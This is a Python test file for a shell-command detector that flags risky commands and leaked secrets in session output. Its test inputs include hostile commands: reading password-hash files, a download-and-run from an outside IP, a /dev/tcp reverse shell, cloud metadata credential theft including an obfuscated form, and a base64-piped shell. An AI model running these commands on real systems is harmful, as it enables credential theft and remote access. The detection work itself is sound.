"""The detector's behaviour as callers see it: findings, severities, snippets, output lines."""

from __future__ import annotations

import pytest

from ssm_warden.detect import verdict_for
from ssm_warden.detect.detector import Detector, get_detector, max_severity
from ssm_warden.detect.rules import RulePackError, load_pack_text, load_rules
from ssm_warden.models.findings import Severity

STRICT = {
    Severity.LOW: "alert",
    Severity.MEDIUM: "alert",
    Severity.HIGH: "terminate",
    Severity.CRITICAL: "terminate",
}


def _rules(command: str) -> set[str]:
    return {f.rule for f in get_detector().judge_command(command)}


def test_findings_carry_the_original_command_and_one_finding_per_rule() -> None:
    # Given a command that triggers the same rule twice
    command = "cat /etc/shadow; cat /etc/gshadow"
    # When judged
    findings = get_detector().judge_command(command)
    # Then the rule is reported once, with the command as typed and a reason quoting it
    hits = [f for f in findings if f.rule == "password-hash-files"]
    assert len(hits) == 1
    assert hits[0].command == command
    assert "/etc/shadow" in hits[0].reason or "/etc/gshadow" in hits[0].reason
    assert hits[0].attack == "T1003.008"


def test_sudo_raises_severity_where_the_rule_says_so() -> None:
    # Given the same shell escape with and without sudo
    plain = get_detector().judge_command("less /etc/hosts\n!/bin/sh")
    root = get_detector().judge_command("sudo less /etc/hosts\n!/bin/sh")
    # Then unprivileged it is low and under sudo it is high
    assert max_severity(plain) == Severity.LOW
    assert max_severity(root) == Severity.HIGH


def test_a_snippet_is_judged_whole_so_steps_on_different_lines_combine() -> None:
    # Given a download, a chmod and a run on three lines
    snippet = "wget -q http://203.0.113.7/k -O /tmp/k\nchmod +x /tmp/k\n/tmp/k"
    # When judged
    # Then the download-and-run rule fires, though no single line is enough
    assert "download-chmod-run" in _rules(snippet)
    assert "download-chmod-run" not in _rules("chmod +x /tmp/k")


def test_a_snippet_is_also_judged_line_by_line() -> None:
    # Given a snippet whose first line leaves a quote open
    snippet = "echo 'unterminated\nbash -i >& /dev/tcp/203.0.113.7/9001 0>&1"
    # When judged
    # Then the reverse shell on the second line is still found
    assert "revshell-dev-tcp" in _rules(snippet)


@pytest.mark.parametrize(
    "command",
    [
        "ls -la /var/log",
        "sudo systemctl restart nginx",
        "kubectl get pods -A",
        "rm -rf ./build",
        "curl -s https://api.example.com/health | jq .",
        "echo aGVsbG8= | base64 -d",
        "sudo -u postgres psql -c 'select 1'",
        "ssh -L 5432:db.internal:5432 bastion",
        "chmod 755 ./deploy.sh",
        "find . -name '*.pyc' -delete",
        "docker run --rm -it alpine /bin/sh",
    ],
)
def test_everyday_admin_commands_are_allowed(command: str) -> None:
    # Given an ordinary admin command
    # When judged under the strictest actions
    findings = get_detector().judge_command(command)
    # Then nothing is reported
    assert verdict_for(findings, STRICT) == "allow", [f.rule for f in findings]


@pytest.mark.parametrize(
    ("command", "verdict"),
    [
        ("curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/", "terminate"),
        ("cu''rl -s http://2852039166/latest/meta-data/iam/security-credentials/r", "terminate"),
        ("echo Y2F0IC9ldGMvc2hhZG93 | base64 -d | bash", "terminate"),
        ("sudo systemctl stop amazon-ssm-agent", "terminate"),
        ("nmap -sT 10.0.0.0/24", "alert"),
    ],
)
def test_risky_commands_get_the_expected_verdict(command: str, verdict: str) -> None:
    # Given a risky (possibly obfuscated) command
    # When judged under the strictest actions
    # Then the verdict matches its severity
    assert verdict_for(get_detector().judge_command(command), STRICT) == verdict


def test_output_rules_are_separate_from_command_rules() -> None:
    # Given a line a terminal printed with a secret key, and the same text typed as a command
    line = "aws_secret_access_key = kq3Xv9mZ/1a2B3c4D5e6F7g8H9i0JkLmNoPqRsTu"
    detector = get_detector()
    # Then only judge_output reports it
    assert {f.rule for f in detector.judge_output(line)} == {"output-aws-secret-key"}
    assert not any(f.rule.startswith("output-") for f in detector.judge_command(line))
    assert detector.output_rules and all(r.is_output for r in detector.output_rules)


def test_output_judging_ignores_terminal_colour_codes() -> None:
    # Given a private key header printed in colour
    line = "\x1b[32m-----BEGIN OPENSSH PRIVATE KEY-----\x1b[0m"
    # Then it is still found
    assert [f.rule for f in get_detector().judge_output(line)] == ["output-private-key-block"]


def test_detector_is_cached_per_packs_and_default_means_every_pack() -> None:
    # Given the default detector and the one for ("default",)
    # Then they are the same object, and a narrower pack list gives fewer rules
    assert get_detector() is get_detector(("default",))
    narrow = get_detector(("recon",))
    assert 0 < len(narrow.rules) < len(get_detector().rules)
    assert {r.pack for r in narrow.rules} == {"recon"}


def test_an_unknown_pack_or_kind_or_bad_pattern_is_rejected_with_its_name() -> None:
    # Given broken pack definitions
    with pytest.raises(RulePackError, match="no-such-pack"):
        load_rules(["no-such-pack"])
    bad_kind = """
pack: p
description: d
rules:
  - id: r1
    title: t
    description: d
    category: c
    severity: low
    kind: nope
    match: ['x']
    examples: {must_match: ['x']}
"""
    with pytest.raises(RulePackError, match="unknown kind"):
        load_pack_text(bad_kind, "p.yaml")
    bad_pattern = bad_kind.replace("kind: nope", "kind: regex").replace(
        "['x']\n    examples", "['(?=x)']\n    examples"
    )
    # When compiled
    # Then the rule id is named
    with pytest.raises(RulePackError, match="r1"):
        Detector(load_pack_text(bad_pattern, "p.yaml"))


def test_every_rule_has_complete_metadata() -> None:
    # Given every shipped rule
    for rule in get_detector().rules:
        # Then it has a title, description, category, ATT&CK id and at least one example
        assert rule.title and rule.description and rule.category
        assert rule.attack and rule.attack.startswith("T")
        assert rule.must_match
